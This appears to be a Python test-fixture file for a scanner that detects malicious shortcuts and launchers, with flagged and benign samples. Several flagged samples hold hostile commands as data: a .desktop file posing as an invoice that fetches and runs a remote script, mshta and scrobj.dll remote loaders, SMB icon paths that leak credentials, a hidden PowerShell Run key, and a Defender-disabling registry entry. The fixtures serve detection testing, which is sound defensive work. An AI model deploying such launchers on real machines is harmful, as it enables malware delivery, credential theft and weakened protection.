"""Shortcuts, starters and scripts of Windows, inert: what they would start is a word or an address of nobody."""

import importlib.util
from pathlib import Path


def _load(name):
    spec = importlib.util.spec_from_file_location(f"made_{name}", Path(__file__).parents[1] / "_made" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


link = _load("links").link
SHELL = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WORDS = b"Set-Nothing " * 20


def flags():
    yield "shortcut_command--encoded", {"invoice.pdf.lnk": link(SHELL, "-w hidden -enc " + "QQBBAEEAQQBBAA" * 4, "C:\\Program Files\\Acrobat\\AcroRd32.exe", show=7)}
    yield "shortcut_command--mshta", {"read me.lnk": link("..\\..\\Windows\\System32\\mshta.exe", "http://192.0.2.8/a.hta")}
    yield "shortcut_command--padded", {"photo.lnk": link("C:\\Windows\\System32\\cmd.exe", " " * 300 + "/c echo example.invalid")}
    yield "shortcut_command--looks-like-a-document", {"offer.lnk": link("C:\\Windows\\explorer.exe", "notes", "C:\\Windows\\System32\\imageres.dll")}
    yield "shortcut_command--environment", {"offer.lnk": link("", "/c start /min example.invalid", environment="%COMSPEC%\\cmd.exe")}
    yield "shortcut_command--share", {"offer.lnk": link("\\\\203.0.113.7\\share\\a.exe")}
    yield "shortcut_command--interpreter", {"offer.lnk": link("C:\\Windows\\System32\\cmd.exe")}
    yield "appended--script-behind", {"offer.lnk": link("C:\\Program Files\\App\\app.exe", behind=WORDS * 40)}
    yield "malformed--cut", {"offer.lnk": link(SHELL, "-nop")[:30] + b"\xff" * 20}
    yield "remote_target--url", {"offer.url": b"[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.vbs\r\n"}
    yield "starts_program--url", {"offer.url": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/mshta.exe\r\n"}
    yield "credential_leak--url", {"a.url": b"[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.7\\a\\b.ico\r\n"}
    yield "credential_leak--scf", {"@a.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\share\\a.ico\r\n"}
    starter = b"[Desktop Entry]\nType=Application\nName=Invoice.pdf\nIcon=application-pdf\nTerminal=false\n"
    yield "runs_commands--desktop", {"invoice.desktop": starter + b'Exec=bash -c "curl -s http://192.0.2.3/a | base64 -d > /tmp/a; sh /tmp/a"\n'}
    yield "runs_commands--desktop-as-document", {"invoice.desktop": starter + b"Exec=sh -c ./run\n"}
    library = b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>\\\\192.0.2.4\\dav</url></simpleLocation></libraryDescription>'
    yield "remote_target--library", {"docs.library-ms": library}
    setting = b'<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'
    yield "starts_program--setting", {"a.settingcontent-ms": setting}
    run = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"powershell -w hidden -c example.invalid\"\r\n"
    yield "autostart--registry", {"settings.reg": b"\xff\xfe" + run.encode("utf-16-le")}
    yield "lowers_guard--registry", {"settings.reg": b'REGEDIT4\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n"DisableAntiSpyware"=dword:00000001\r\n'}
    yield "autorun--medium", {"autorun.inf": b"[autorun]\r\nopen=setup.exe /s\r\nicon=folder.ico\r\n"}
    yield "runs_commands--inf", {"a.inf": b"[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=x\r\n[x]\r\n%11%\\scrobj.dll,NI,http://192.0.2.6/a.sct\r\n"}
    run = b'Set s = CreateObject("WScript.Shell")\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a", False\r\ns.Run "calc", 0\r\n'
    yield "script_host--vbs", {"setup.vbs": run}
    yield "script_host--js", {"setup.js": b"var s = new ActiveXObject('WScript.Shell');\ns.Run('powershell -w hidden -c example.invalid', 0);\n"}
    yield "script_host--js-chained", {"a.js": b"new ActiveXObject('WScript.Shell').exec('cmd /c x');\n"}
    yield "script_host--wsf", {"a.wsf": b'<job><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c calc"</script></job>'}
    yield "script_host--hta", {"a.hta": b'<html><hta:application id="a"/><script language="vbscript">CreateObject("WScript.Shell").Exec "mshta x"</script></html>'}
    yield "script_host--only-runs", {"a.vbs": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "notepad"\r\n'}
    yield "encoded_script--vbe", {"a.vbe": b"#@~^EAAAAA==" + b"jm.bwOR3m4W~E4k\x7f" + b"ABCDAA==^#~@"}
    chm = b"ITSF\x03\0\0\0" + bytes(200) + b"PMGL" + bytes(16) + b"\x0a/index.htm\x01\x00\x20\x0b/helper.exe\x01\x20\x81\x00"
    yield "help_program--chm", {"help.chm": chm}


def passes():
    yield "shortcut-to-an-app", {"App.lnk": link("..\\..\\Program Files\\App\\app.exe", "--minimised", "C:\\Program Files\\App\\app.ico")}
    yield "web-shortcut", {"site.url": b"[InternetShortcut]\r\nURL=https://www.example.com/docs\r\nIconIndex=0\r\n"}
    yield "starter", {"app.desktop": b"[Desktop Entry]\nType=Application\nName=App\nExec=/usr/bin/app %U\nIcon=app\nTerminal=false\n"}
    yield "starter-that-looks-like-a-folder", {"files.desktop": b"[Desktop Entry]\nName=Files\nExec=files --new-window\nIcon=folder\n"}
    yield "settings", {"app.reg": b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\App]\r\n\"Colour\"=\"blue\"\r\n"}
    yield "driver", {"app.inf": b"[Version]\r\nSignature=\"$Windows NT$\"\r\nClass=Net\r\n[DefaultInstall]\r\nCopyFiles=a\r\n"}
    old = b"function request() { try { return new XMLHttpRequest(); } catch (e) { return new ActiveXObject('Microsoft.XMLHTTP'); } }\n"
    yield "old-browser-code", {"lib/jquery.js": old}
    bundle = b"var f = new ActiveXObject('WScript.Shell'); var home = f.ExpandEnvironmentStrings('%TEMP%');\nwhile ((m = expression.exec(text))) { node.dataType = 'bin.base64'; }\n"
    yield "bundle-for-old-hosts", {"dist/sheet.js": bundle}
    yield "node-module", {"index.js": b"const { exec } = require('child_process');\nmodule.exports = (cmd) => exec(cmd);\n"}
    yield "help", {"help.chm": b"ITSF\x03\0\0\0" + bytes(200) + b"\x0a/index.htm\x01\x00\x20\x0b/styles.css\x01\x20\x81\x00"}
    yield "notes-on-shortcuts", {"README.md": b"A file with [InternetShortcut] and URL= in it is a web shortcut; [Desktop Entry] is one of Linux.\n"}
    yield "script-that-tells", {"a.vbs": b'Set f = CreateObject("Scripting.FileSystemObject")\r\nWScript.Echo f.GetFolder(".").Files.Count\r\n'}
